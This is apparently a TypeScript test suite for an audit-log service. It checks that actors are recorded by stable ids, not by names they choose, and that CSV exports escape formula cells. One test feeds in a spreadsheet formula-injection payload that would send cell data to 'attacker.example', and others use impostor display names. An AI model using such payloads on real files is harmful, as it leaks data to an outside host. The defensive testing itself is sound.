import { randomBytes, randomUUID } from 'node:crypto';
import { resolve } from 'node:path';
import { Client, type Pool } from 'pg';
import { parse } from 'csv-parse/sync';
import { registerAuditCommands } from '../../client/cli/audit';
import { recordAuditEntry } from '../../audit/store';
import { migrate } from '../../db/migrate';
import { createPool } from '../../db/pool';
import { OperatorIssuer } from '../../sandbox/auth/operator-issuer';
import { operatorIssuerUrl } from '../../sandbox/server';
import { runCli } from '../harness/cli';
import { bearerCall } from '../harness/http';
import {
  groupSeed,
  operatorSeed,
  ownDatabase,
  sandboxOidc,
  startOrchestrator,
  startSandbox,
  type RunningOrchestrator,
  type RunningSandbox,
} from '../harness/platform';

type Row = { actor: string; action: string; details: { principal?: { name?: string } } };

/**
 * The actor of an audit row is who the identity provider or the key store says the caller is (`oidc:<sub>`,
 * `apikey:<id>`), never a name the caller can choose: a token's `name`, `preferred_username` and `email` are often
 * editable by their owner at the provider, and an API key's name is whatever its creator typed.
 */
describe('audit actors are stable subjects, names are for display; CSV exports are safe to open in a spreadsheet', () => {
  // A database of its own: `audit verify` reads the whole log.
  const db = ownDatabase('actor');
  const g = groupSeed();
  const operators = operatorSeed();
  g.seed.operators = Object.values(operators);
  let pool: Pool;
  let sb: RunningSandbox;
  let orch: RunningOrchestrator;
  let issuer: OperatorIssuer;

  /** A token of the configured provider for `sub`, with whatever display claims its owner gave themselves. */
  const token = async (sub: string, roles: string[], claims: Record<string, string>) => {
    const now = Math.floor(Date.now() / 1000);
    return issuer.sign({
      iss: issuer.issuer,
      sub,
      aud: 'travel-rule-orchestrator',
      iat: now,
      nbf: now,
      exp: now + 600,
      jti: randomBytes(8).toString('hex'),
      roles,
      ...claims,
    });
  };
  const rowsFor = async (subject: string): Promise<Row[]> =>
    (
      await pool.query<Row>('select actor, action, details from audit_log where subject = $1 order by chain, seq', [
        subject,
      ])
    ).rows;
  const addresses = (customerRef: string) => ({
    addresses: [{ asset: 'ETH', address: `0x${randomBytes(20).toString('hex')}`, customerRef, vaspDID: g.subA }],
  });

  /** API keys made before creators were recorded by stable id: their creator's name, and their audit rows' principals. */
  const legacy = {
    byPerson: {
      id: randomUUID(),
      prefix: 'tro_00000000000000a1',
      by: 'Ada Admin',
      principal: { kind: 'oidc', subject: 'user-legacy', name: 'Ada Admin', roles: ['admin'], credentialId: 'j1' },
    },
    byOldCli: {
      id: randomUUID(),
      prefix: 'tro_00000000000000a2',
      by: 'cli:alice',
      principal: { kind: 'system', subject: 'cli:alice', name: 'cli:alice', roles: [], credentialId: 'cli:alice' },
    },
    byStart: {
      id: randomUUID(),
      prefix: 'tro_00000000000000a3',
      by: 'npm-start',
      principal: { kind: 'system', subject: 'npm-start', name: 'npm-start', roles: [], credentialId: 'npm-start' },
    },
    unaudited: { id: randomUUID(), prefix: 'tro_00000000000000a4', by: 'someone', principal: undefined },
  };
  const revoker = {
    kind: 'api-key',
    subject: randomUUID(),
    name: 'ops-bot',
    roles: ['admin'],
    credentialId: 'tro_00000000000000b1',
  };

  beforeAll(async () => {
    await db.create();
    // The schema before creators were stable ids (13 migrations), with keys made then.
    const { runner } = await import('node-pg-migrate');
    const client = new Client({ connectionString: db.url });
    await client.connect();
    try {
      await runner({
        dbClient: client,
        dir: resolve(__dirname, '../../db/migrations/orchestrator'),
        migrationsTable: 'pgmigrations',
        schema: 'orchestrator',
        createSchema: true,
        direction: 'up',
        count: 13,
        singleTransaction: true,
        checkOrder: true,
        log: () => undefined,
      });
    } finally {
      await client.end();
    }
    pool = createPool(db.url, 'orchestrator');
    for (const k of Object.values(legacy)) {
      await pool.query(
        `insert into api_keys (id, prefix, name, role, secret_sha256, created_by) values ($1, $2, 'legacy', 'viewer', $3, $4)`,
        [k.id, k.prefix, randomBytes(32), k.by],
      );
      if (k.principal)
        await recordAuditEntry(pool, {
          actor: k.by,
          action: 'api-key.create',
          subject: k.prefix,
          details: { principal: k.principal },
        });
    }
    await pool.query(`update api_keys set revoked_at = now(), revoked_by = 'ops-bot' where id = $1`, [
      legacy.byPerson.id,
    ]);
    await recordAuditEntry(pool, {
      actor: 'ops-bot',
      action: 'api-key.revoke',
      subject: legacy.byPerson.prefix,
      details: { principal: revoker },
    });
    await migrate(db.url, 'orchestrator');
    sb = await startSandbox(g.seed);
    orch = await startOrchestrator(sb.networkConfig(g.gatewayUser), {
      pool,
      group: { gatewayDid: g.gateway, subsidiaryDids: [g.subA, g.subB] },
      auth: sandboxOidc(sb),
    });
    issuer = await OperatorIssuer.open(sb.pool, operatorIssuerUrl(sb.url));
  });
  afterAll(async () => {
    await orch?.close();
    await sb?.close();
    await pool?.end();
    await db.drop();
  });

  it('a token named like a system component or a colleague is recorded by its subject, its name kept for display', async () => {
    const mallory = `user-${randomBytes(6).toString('hex')}`;
    const impostors: { sub: string; claims: Record<string, string> }[] = [
      { sub: mallory, claims: { name: 'system:screening' } },
      { sub: mallory, claims: { preferred_username: 'system:retention-sweep' } },
      // Another person's display name and e-mail.
      { sub: mallory, claims: { name: 'Maya Compliance', email: 'maya@bank.example' } },
    ];
    for (const [i, { sub, claims }] of impostors.entries()) {
      const t = await token(sub, ['admin'], claims);
      const me = await bearerCall(orch.apiUrl, t, 'GET', '/v1/me');
      expect(me.body).toMatchObject({
        kind: 'oidc',
        subject: sub,
        issuer: issuer.issuer,
        name: Object.values(claims)[0],
        actor: `oidc:${sub}`,
      });

      // Audited writes of three kinds: an API key, the address registry, a read of decoded history.
      const created = await bearerCall(orch.apiUrl, t, 'POST', '/v1/api-keys', {
        name: `impostor-${i}`,
        role: 'viewer',
      });
      expect(created.status).toBe(201);
      expect(created.body.apiKey).toMatchObject({ createdBy: `oidc:${sub}`, createdByName: Object.values(claims)[0] });
      expect((await bearerCall(orch.apiUrl, t, 'PUT', '/v1/addresses', addresses(`impostor-${i}`))).status).toBe(200);
      const rows = await rowsFor(created.body.apiKey.prefix);
      expect(rows).toEqual([
        expect.objectContaining({
          actor: `oidc:${sub}`,
          action: 'api-key.create',
          details: expect.objectContaining({ principal: expect.objectContaining({ name: Object.values(claims)[0] }) }),
        }),
      ]);
    }
    const registry = (
      await pool.query<Row>(
        `select actor, action, details from audit_log where action = 'address-book.import' order by seq`,
      )
    ).rows;
    expect(registry.map((r) => [r.actor, r.details.principal?.name])).toEqual([
      [`oidc:${mallory}`, 'system:screening'],
      [`oidc:${mallory}`, 'system:retention-sweep'],
      [`oidc:${mallory}`, 'Maya Compliance'],
    ]);

    // The real Maya is someone else, whatever the name says.
    const maya = await sb.operatorToken(operators.compliance);
    const encoded = await bearerCall(orch.apiUrl, maya, 'POST', '/codec/encode', {
      payloads: [
        {
          metadata: { encoding: Buffer.from('json/plain').toString('base64') },
          data: Buffer.from('"x"').toString('base64'),
        },
      ],
    });
    expect(
      (
        await fetch(`${orch.apiUrl}/codec/decode`, {
          method: 'POST',
          headers: {
            authorization: `Bearer ${maya}`,
            'content-type': 'application/json',
            'x-namespace': 'default',
            'x-workflow-id': 'actor-test',
          },
          body: JSON.stringify(encoded.body),
        })
      ).status,
    ).toBe(200);
    expect((await rowsFor('actor-test')).map((r) => [r.actor, r.details.principal?.name])).toEqual([
      [`oidc:${operators.compliance.subject}`, 'Maya Compliance'],
    ]);

    // Nothing a caller sent made a row read as a system component.
    const system = await pool.query<{ n: number }>(
      `select count(*)::int as n from audit_log where starts_with(actor, 'system:') and details->'principal'->>'kind' <> 'system'`,
    );
    expect(system.rows[0]!.n).toBe(0);
    expect(await runCli((p) => registerAuditCommands(p, { pool }), ['audit', 'verify'])).toMatch(
      /^audit chain intact/m,
    );
  });

  it('API keys made before the migration name their creator and revoker by the stable id their audit rows hold', async () => {
    const { rows } = await pool.query(
      'select prefix, created_by, created_by_name, revoked_by, revoked_by_name from api_keys where name = $1 order by prefix',
      ['legacy'],
    );
    expect(rows).toEqual([
      {
        prefix: legacy.byPerson.prefix,
        created_by: 'oidc:user-legacy',
        created_by_name: 'Ada Admin',
        revoked_by: `apikey:${revoker.subject}`,
        revoked_by_name: 'ops-bot',
      },
      // The CLI was a system principal named cli:<OS user> before it had a kind of its own.
      {
        prefix: legacy.byOldCli.prefix,
        created_by: 'cli:alice',
        created_by_name: 'cli:alice',
        revoked_by: null,
        revoked_by_name: null,
      },
      {
        prefix: legacy.byStart.prefix,
        created_by: 'system:npm-start',
        created_by_name: 'npm-start',
        revoked_by: null,
        revoked_by_name: null,
      },
      // No audit row to learn from: the name stays.
      {
        prefix: legacy.unaudited.prefix,
        created_by: 'someone',
        created_by_name: 'someone',
        revoked_by: null,
        revoked_by_name: null,
      },
    ]);
  });

  it('an API key named like a system component or a person is recorded as apikey:<id>', async () => {
    const admin = await sb.operatorToken(operators.admin);
    const made = await bearerCall(orch.apiUrl, admin, 'POST', '/v1/api-keys', {
      name: 'system:screening',
      role: 'operator',
    });
    expect(made.status).toBe(201);
    expect(made.body.apiKey).toMatchObject({
      createdBy: `oidc:${operators.admin.subject}`,
      createdByName: 'Ada Admin',
    });
    expect((await bearerCall(orch.apiUrl, made.body.key, 'PUT', '/v1/addresses', addresses('by-key'))).status).toBe(
      200,
    );
    const row = (
      await pool.query<Row>(
        `select actor, action, details from audit_log where action = 'address-book.import' order by seq desc limit 1`,
      )
    ).rows[0]!;
    expect([row.actor, row.details.principal?.name]).toEqual([`apikey:${made.body.apiKey.id}`, 'system:screening']);
    // Revoking it records the stable id too, with the name beside it.
    const revoked = await bearerCall(orch.apiUrl, admin, 'POST', `/v1/api-keys/${made.body.apiKey.prefix}/revoke`);
    expect(revoked.body).toMatchObject({ revokedBy: `oidc:${operators.admin.subject}`, revokedByName: 'Ada Admin' });
  });

  it('the audit log shows the name beside the actor, and its CSV export escapes cells a spreadsheet would run as formulas', async () => {
    const sub = `user-${randomBytes(6).toString('hex')}`;
    const formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Maya Compliance")';
    const t = await token(sub, ['admin'], { name: formula });
    const created = await bearerCall(orch.apiUrl, t, 'POST', '/v1/api-keys', { name: 'formula-test', role: 'viewer' });
    expect(created.status).toBe(201);
    const subject = created.body.apiKey.prefix as string;

    const listed = await bearerCall(orch.apiUrl, t, 'GET', `/v1/audit-log?subject=${subject}`);
    expect(listed.body.data).toEqual([
      expect.objectContaining({ actor: `oidc:${sub}`, actorName: formula, action: 'api-key.create' }),
    ]);

    const r = await fetch(`${orch.apiUrl}/v1/audit-log/export?subject=${subject}`, {
      headers: { authorization: `Bearer ${t}` },
    });
    expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...cells] = parse(await r.text()) as string[][];
    expect(header).toEqual([
      'id',
      'at',
      'actor',
      'actorName',
      'action',
      'subject',
      'details',
      'chain',
      'seq',
      'prevHash',
      'hash',
    ]);
    expect(cells).toHaveLength(1);
    const byColumn = Object.fromEntries(header!.map((h, i) => [h, cells[0]![i]!]));
    expect(byColumn).toMatchObject({
      actor: `oidc:${sub}`,
      actorName: `'${formula}`,
      action: 'api-key.create',
      subject,
    });
    // Every cell of the file: none starts as a formula.
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The details stay JSON (a `{` is no formula), with the name inside as sent.
    expect(JSON.parse(byColumn.details!).principal.name).toBe(formula);
  });
});
